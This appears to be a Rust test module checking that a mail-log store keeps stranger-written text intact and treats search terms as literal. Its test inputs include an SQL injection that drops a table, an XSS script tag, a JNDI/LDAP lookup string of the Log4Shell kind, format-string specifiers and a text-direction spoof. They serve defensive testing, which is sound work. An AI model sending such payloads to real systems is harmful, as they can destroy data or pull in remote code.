//! Log text is written by strangers: a store keeps it, finds it, and never obeys it.

use crate::fixture::{always, create, found_by, get, key, message, message_with, pages, part_of, recipient};
use mailstitch::store::Store;

const TEXTS: [&str; 10] = [
    "'; DROP TABLE transactions; --",
    "\"quoted \\\" and \\ back\"@example.org",
    "nul\0byte@example.org",
    "<script>alert(1)</script>@example.org",
    "{\"query\":{\"match_all\":{}}}",
    "two\nlines\r\n\t\u{1b}[31m",
    "\u{202e}gro.elpmaxe@nna",
    "\u{fffd}\u{fffd}@example.org",
    "%s%n${jndi:ldap://192.0.2.1/a}",
    "grüße@bücher.example",
];

pub async fn text_of_strangers_comes_back_unchanged(store: &dyn Store) {
    for (n, text) in TEXTS.into_iter().enumerate() {
        let t = message_with(&format!("{n}-{text}"), 0, |t| {
            t.email.from.address = Some(text.into());
            t.email.message_id = Some(text.into());
            t.mail.recipients = vec![recipient(text)];
            t.mail.lines[0].text = text.repeat(5_000).into();
        });
        create(store, std::slice::from_ref(&t)).await;
        assert_eq!(get(store, &t.mail.id).await.transaction, t);
        let queue_id = format!("{n}-{text}");
        assert_eq!(found_by(store, &[text]).await, std::slice::from_ref(&queue_id), "{text:?}");
        assert_eq!(store.find(&[key(&queue_id)], always()).await.unwrap().len(), 1, "{text:?}");
    }
    assert_eq!(pages(store, None).await.len(), TEXTS.len());
}

pub async fn wildcards_and_queries_are_only_text(store: &dyn Store) {
    create(store, &[message("4F1", 0)]).await;
    for term in ["*", "%", "_F1", "4F?", "4F1 OR 4F2", "/.*/", "mail.id:*", "sender@*", "' OR 1=1 --"] {
        assert!(found_by(store, &[term]).await.is_empty(), "{term}");
        assert!(store.find(&[key(term)], always()).await.unwrap().is_empty(), "{term}");
        assert!(store.get(&[term.to_owned()]).await.unwrap().is_empty(), "{term}");
    }
}

pub async fn twenty_thousand_recipients_are_kept(store: &dyn Store) {
    const PARTS: u32 = 32;
    let parts: Vec<_> = (0..PARTS)
        .map(|part| {
            let mut t = part_of("4F1", 0, part, PARTS);
            t.email.to.address = (0..625).map(|n| format!("r{part}.{n}@example.org").into()).collect();
            t.mail.recipients = t.email.to.address.iter().map(|address| recipient(address)).collect();
            t
        })
        .collect();
    create(store, &parts).await;
    let found = store.find(&[key("4F1")], always()).await.unwrap();
    assert_eq!(found.iter().map(|stored| stored.transaction.mail.recipients.len()).sum::<usize>(), 20_000);
    assert_eq!(found_by(store, &["R0.624@example.org"]).await, ["4F1"]);
    assert_eq!(pages(store, None).await.len(), 32);
}
